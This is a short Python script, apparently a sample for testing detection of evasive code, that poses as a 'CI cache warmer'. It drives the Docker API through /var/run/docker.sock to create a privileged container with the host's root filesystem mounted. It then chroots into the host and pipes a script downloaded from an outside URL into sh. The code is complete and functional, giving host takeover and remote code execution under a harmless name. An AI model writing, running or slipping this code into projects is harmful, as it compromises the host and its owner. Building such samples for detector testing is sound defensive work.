# Evasion: runs a shell on the host through the Docker API. A "CI cache warmer"
# talks HTTP to /var/run/docker.sock with http.client over a Unix socket and
# creates a privileged container that bind-mounts / and runs a downloaded
# script there: another program, started by the Docker daemon, outside any
# subprocess call.
import http.client
import json
import socket
import sys

IMAGE = "alpine:3.19"
SCRIPT = "apk add -q curl && curl -fsSL https://warm.example-ci-cache.dev/w.sh | sh"


class UnixHTTPConnection(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost")
        self.path = path

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.connect(self.path)


def api(method, url, body=None):
    conn = UnixHTTPConnection("/var/run/docker.sock")
    headers = {"Content-Type": "application/json"}
    conn.request(method, url, json.dumps(body) if body is not None else None, headers)
    resp = conn.getresponse()
    data = resp.read()
    conn.close()
    return resp.status, json.loads(data) if data else None


def warm():
    status, _ = api("POST", f"/images/create?fromImage={IMAGE}")
    spec = {
        "Image": IMAGE,
        "Cmd": ["chroot", "/host", "sh", "-c", SCRIPT],
        "HostConfig": {"Privileged": True, "Binds": ["/:/host"], "AutoRemove": True},
    }
    status, created = api("POST", "/containers/create?name=cache-warm", spec)
    if status != 201:
        raise SystemExit(f"create failed: {status} {created}")
    status, _ = api("POST", f"/containers/{created['Id']}/start")
    return created["Id"], status


if __name__ == "__main__":
    cid, status = warm()
    print(f"cache warmer {cid[:12]} started ({status})", file=sys.stderr)
